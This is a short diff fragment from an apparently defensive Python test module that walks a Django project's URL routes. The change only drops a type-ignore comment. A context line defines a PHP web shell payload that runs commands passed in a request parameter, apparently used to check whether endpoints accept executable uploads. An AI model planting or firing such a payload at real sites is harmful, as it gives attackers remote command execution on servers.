@@ -33,7 +33,7 @@ SHELL = f"<?php system($_GET['c']); /* {MARK} */ ?>".encode()
 STREAMS = {"discussion/threads/<int:thread_id>/events", "support/live/<int:campaign_id>/"}
 
 
-def _routes(patterns, prefix: str = ""):  # type: ignore[no-untyped-def]
+def _routes(patterns, prefix: str = ""):
     for pattern in patterns:
         if isinstance(pattern, URLResolver):
             if str(pattern.pattern) == "admin/":
